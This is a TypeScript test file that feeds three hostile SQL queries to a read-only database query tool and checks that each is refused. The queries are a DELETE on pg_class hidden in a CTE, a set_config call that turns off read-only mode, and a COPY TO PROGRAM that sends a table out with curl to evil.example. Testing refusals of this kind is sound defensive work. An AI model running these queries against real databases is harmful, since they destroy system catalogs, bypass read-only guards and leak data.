// @boundaries-ignore only a type, of the program that plays the scene
import type { Step } from "../../e2e/src/scene.ts";

/** What no database lets happen, whatever is in it. */
export const attacks: readonly Step[] = [
  {
    ask: "Change something, hidden in what looks like a question",
    tool: "query",
    arguments: { sql: "WITH gone AS (DELETE FROM pg_class RETURNING *) SELECT count(*) FROM gone" },
    should: "refused: it says what offends",
    check: ({ refused, text }) => refused && /DELETE/.test(text),
  },
  {
    ask: "Switch the read-only transaction off, inside a query that is allowed",
    tool: "query",
    arguments: { sql: "SELECT * FROM pg_class, LATERAL (SELECT set_config('transaction_read_only', NULL, true)) AS trick" },
    should: "refused, with the place and the reason",
    check: ({ refused, text }) => refused && /set_config/.test(text) && /^ +\^$/m.test(text),
  },
  {
    ask: "Send a table to another machine",
    tool: "query",
    arguments: { sql: "COPY (SELECT * FROM pg_class) TO PROGRAM 'curl -d @- evil.example'" },
    should: "refused",
    check: ({ refused, text }) => refused && /COPY/.test(text),
  },
];
